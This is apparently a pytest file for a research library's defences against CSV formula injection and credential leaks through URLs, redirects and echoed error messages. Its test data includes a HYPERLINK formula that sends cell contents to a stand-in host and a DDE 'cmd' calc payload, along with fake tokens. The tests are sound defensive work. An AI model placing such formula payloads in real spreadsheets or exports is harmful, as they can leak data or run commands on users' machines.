"""Issue 36, items 1-3 (leaks): spreadsheet formulas in CSV tables, credentials outside the
redaction list, and keys in redirects or in other encodings echoed by a server."""

from __future__ import annotations

import base64
import json
import logging
from urllib.parse import quote

import nbformat
import pandas as pd
import pytest
from fake_openai_server import FakeOpenAIServer
from test_collect_support import QUERIES, fast

from ecc_lib.cli import main
from ecc_lib.collect import collect
from ecc_lib.redaction import redact_url, secret_replacements, url_secrets
from ecc_lib.runs import artifacts
from ecc_lib.runs import folder as run_folder
from ecc_lib.runs import metrics as run_metrics
from ecc_lib.runs.provenance import write_metrics

ONE = QUERIES.head(1)
KEY = "sk-test/0123456789+abcdef=XYZ"
"""An API key whose percent-encoded and base64 forms differ from it."""
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.Zm9vYmFyYmF6cXV4"


def key_forms(secret: str) -> dict[str, str]:
    """The forms of ``secret`` a careless server may echo (see ``echo_key`` of the fake server)."""
    return {
        "plain": secret,
        "percent": quote(secret, safe=""),
        "base64": base64.b64encode(secret.encode()).decode(),
        "bearer64": base64.b64encode(f"Bearer {secret}".encode()).decode(),
    }


def leaked(text: str, secret: str) -> list[str]:
    return [name for name, form in key_forms(secret).items() if form in text]


# ------------------------------------------------------------------ 1: CSV formula injection

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
PLAIN = ["gpt-4o", "-1.5", "1e-3", "a=b"]


def test_formula_like_names_are_quoted_in_tables_and_exact_in_metrics(tmp_path):
    run = run_folder.run_context(tmp_path / "run")
    names = FORMULAS + PLAIN
    table = pd.DataFrame(
        {
            "model": names,
            "category": pd.Series(names[::-1], dtype="category"),
            "gain": [-1.5 - k for k in range(len(names))],
            "n": range(-3, len(names) - 3),
        }
    )
    table["=cluster()"] = "=A1"
    path = artifacts.save_table(table, run, "03_models")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    quoted = ["'" + n for n in FORMULAS] + PLAIN  # "-1.5" is a number, not a formula
    assert back["model"].tolist() == quoted
    assert back["category"].tolist() == quoted[::-1]
    assert back.columns.tolist() == ["model", "category", "gain", "n", "'=cluster()"]
    assert set(back["'=cluster()"]) == {"'=A1"}
    assert back["gain"].tolist()[0] == "-1.5" and back["n"].tolist()[0] == "-3"  # numbers as is
    run_metrics.record_metrics(run, "ecc", {"models": names})
    write_metrics(run)
    assert json.loads(run.metrics_path.read_text())["ecc"]["models"] == names  # names exact


def test_the_report_reads_the_quoted_names_back_exactly(tmp_path):
    from ecc_lib.report.reading import read_table

    run = run_folder.run_context(tmp_path / "run")
    names = [*FORMULAS[:5], "'=already quoted", "'plain", *PLAIN]
    table = pd.DataFrame({"model": names, "gain": range(len(names))})
    artifacts.save_table(table, run, "03_models")
    raw = (run.tables_dir / "03_models.csv").read_text()
    assert "\n'=1+2," in raw and "\n''=already quoted," in raw and "\n'plain," in raw
    back = read_table(run, "ecc", "models")
    assert back["model"].tolist() == names
    assert back["gain"].tolist() == list(range(len(names)))


def test_index_labels_are_quoted_and_a_safe_table_is_written_unchanged(tmp_path):
    from ecc_lib.safe_output import csv_safe_frame

    run = run_folder.run_context(tmp_path / "run")
    table = pd.DataFrame({"gain": [1.0, -2.0]}, index=pd.Index(["=1+2", "ok"], name="@model"))
    text = artifacts.save_table(table, run, "03_indexed", index=True).read_text()
    assert text.splitlines() == ["'@model,gain", "'=1+2,1", "ok,-2"]
    safe = pd.DataFrame({"model": ["a", "b"], "x": [-1, 2]})
    assert csv_safe_frame(safe) is safe


# ----------------------------------------------------------- 2: credentials outside the list


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (f"http://h/v1?jwt={JWT}", "http://h/v1?jwt=[REDACTED]"),
        ("http://h/v1?jwt=short", "http://h/v1?jwt=[REDACTED]"),
        ("http://h/v1?my_token=t&authorization=a&X-Goog-Signature=s&sigv=4",
         "http://h/v1?my_token=[REDACTED]&authorization=[REDACTED]&X-Goog-Signature=[REDACTED]&sigv=[REDACTED]"),
        ("http://h/v1?password=p&key=k&auth=z", "http://h/v1?password=[REDACTED]&key=[REDACTED]&auth=[REDACTED]"),
        (f"http://h/v1?q={JWT}&n=3", "http://h/v1?q=[REDACTED]&n=3"),  # a value that is a JWT
        ("http://h/v1?u=sk-proj-abcdef0123456789", "http://h/v1?u=[REDACTED]"),
        ("http://h/v1?u=ghp_abcdefghijklmnop0123", "http://h/v1?u=[REDACTED]"),
        ("http://h/v1?x=Zr8kQ2mW9vT4pL7nB3cX", "http://h/v1?x=[REDACTED]"),  # random-looking
        ("http://h/v1?x=0123456789abcdef0123456789abcdef", "http://h/v1?x=[REDACTED]"),  # hex
        ("http://h/v1?api-version=2024-06-01&model=gpt-4o-mini&design=a",
         "http://h/v1?api-version=2024-06-01&model=gpt-4o-mini&design=a"),
        ("https://h/d?revision=0123456789abcdef0123456789abcdef01234567",  # a git commit
         "https://h/d?revision=0123456789abcdef0123456789abcdef01234567"),
        ("https://h/d?sha_sig=0123456789abcdef0123456789abcdef", "https://h/d?sha_sig=[REDACTED]"),
        ("https://h/d?rev=1&u=sk-proj-abcdef0123456789", "https://h/d?rev=1&u=[REDACTED]"),
    ],
)  # fmt: skip
def test_credentials_named_or_shaped_like_one_are_redacted(url, expected):
    assert redact_url(url) == expected


def test_a_jwt_is_in_no_run_json_metrics_or_executed_notebook(tmp_path):
    run = run_folder.run_context(tmp_path / "run")
    endpoint = f"http://127.0.0.1:9/v1?jwt={JWT}"
    run_metrics.record_metrics(run, "data", {"n": 1}, parameters={"endpoint": endpoint})
    write_metrics(run)
    run_folder.write_json(
        run.run_dir / "run.json", {"parameters": {"01_data": {"endpoint": endpoint}}}
    )
    notebook = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell(f'endpoint = "{endpoint}"')
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=f"{endpoint}\n{JWT}\n")]
    notebook.cells.append(cell)
    executed = run.run_dir / "01_data.ipynb"
    nbformat.write(notebook, executed)
    from ecc_lib.runs.execute import scrub_credentials

    assert scrub_credentials(executed, {"endpoint": endpoint}) >= 2
    for path in (
        run.metrics_path,
        run.metrics_dir / "data.json",
        run.run_dir / "run.json",
        executed,
    ):
        text = path.read_text()
        assert JWT not in text, path
        assert "jwt=[REDACTED]" in text, path
    assert (
        url_secrets(endpoint) == [JWT] and secret_replacements({"e": endpoint})[JWT] == "[REDACTED]"
    )


def test_a_jwt_in_the_base_url_is_in_no_store_file(tmp_path):
    store = tmp_path / "store"
    with FakeOpenAIServer(echo_key="plain") as server:  # the server echoes the query back
        base_url = f"{server.base_url}?jwt={JWT}&api-version=2"
        summary = collect(ONE, ["m1"], base_url, store, **fast(n_rewrites=0, n_decodes=1))
        assert server.requests[0]["query"] == f"jwt={JWT}&api-version=2"  # the token did go
    assert summary.n_collected == 1
    for path in store.rglob("*"):
        if path.is_file():
            assert JWT not in path.read_text(errors="replace"), path
    assert "jwt=[REDACTED]&api-version=2" in (store / "manifest.json").read_text()
    assert "(debug: this request carried" in (store / "records.jsonl").read_text()


# ---------------------------------------------- 3: keys in redirects and in other encodings


def _collect_cli(tmp_path, base_url, *extra) -> int:
    queries = tmp_path / "q.csv"
    ONE.to_csv(queries, index=False)
    return main(
        [
            *extra,
            "collect",
            "--queries", str(queries),
            "--models", "m1",
            "--base-url", base_url,
            "--store", str(tmp_path / "store"),
            "--api-key-env", "ISSUE36_KEY",
            "--rewrites", "0",
            "--decodes", "1",
            "--max-retries", "0",
        ]
    )  # fmt: skip


@pytest.mark.parametrize("where", ["path", "percent-path", "query"])
def test_a_key_inside_a_refused_redirect_is_not_printed(tmp_path, capsys, monkeypatch, where):
    monkeypatch.setenv("ISSUE36_KEY", KEY)
    with FakeOpenAIServer() as other:
        target = {
            "path": f"{other.base_url}/{KEY}/chat/completions",
            "percent-path": f"{other.base_url}/{quote(KEY, safe='')}/chat/completions",
            "query": f"{other.base_url}/chat/completions?next={quote(KEY, safe='')}",
        }[where]
        with FakeOpenAIServer(redirect_to=target) as server:
            status = _collect_cli(tmp_path, server.base_url, "-v")
        assert other.n_calls == 0
    err = capsys.readouterr().err
    assert status == 1 and "refused" in err and "Traceback" not in err
    assert leaked(err, KEY) == []
    for path in (tmp_path / "store").rglob("*"):
        if path.is_file():
            assert leaked(path.read_text(errors="replace"), KEY) == [], path


@pytest.mark.parametrize("encoding", ["plain", "percent", "base64", "bearer64"])
def test_a_key_echoed_in_an_error_in_any_encoding_is_redacted(
    tmp_path, capsys, caplog, monkeypatch, encoding
):
    monkeypatch.setenv("ISSUE36_KEY", KEY)
    with FakeOpenAIServer(echo_key=encoding, echo_status=400) as server:
        with caplog.at_level(logging.INFO):
            status = _collect_cli(tmp_path, server.base_url, "-v")
        assert server.requests[0]["authorization"] == f"Bearer {KEY}"
    shown = capsys.readouterr().err + caplog.text  # the terminal and the -v log
    assert status == 1 and "request refused; it carried" in shown  # the server's text is shown
    assert leaked(shown, KEY) == []
    failures = (tmp_path / "store" / "failures.jsonl").read_text()
    assert "request refused; it carried" in failures
    assert leaked(failures, KEY) == []


@pytest.mark.parametrize("encoding", ["percent", "base64", "bearer64"])
def test_a_key_echoed_in_an_answer_in_any_encoding_is_not_stored(tmp_path, monkeypatch, encoding):
    monkeypatch.setenv("ISSUE36_KEY", KEY)
    store = tmp_path / "store"
    settings = fast(n_rewrites=0, n_decodes=1, api_key_env="ISSUE36_KEY")
    with FakeOpenAIServer(echo_key=encoding) as server:
        collect(ONE, ["m1"], server.base_url, store, **settings)
        assert server.requests[0]["authorization"] == f"Bearer {KEY}"
    records = (store / "records.jsonl").read_text()
    assert "(debug: this request carried" in records
    assert leaked(records, KEY) == []
